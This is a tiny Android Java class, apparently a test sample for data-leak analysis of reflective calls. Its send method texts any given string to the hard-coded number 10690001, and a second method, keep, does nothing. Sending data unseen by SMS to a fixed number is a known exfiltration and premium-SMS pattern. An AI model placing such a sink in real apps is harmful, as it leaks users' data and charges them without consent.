package cn.shanhai.reflectivecall;

import android.telephony.SmsManager;

public class Sender {
  public void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
  }

  public void keep(String text) {}
}
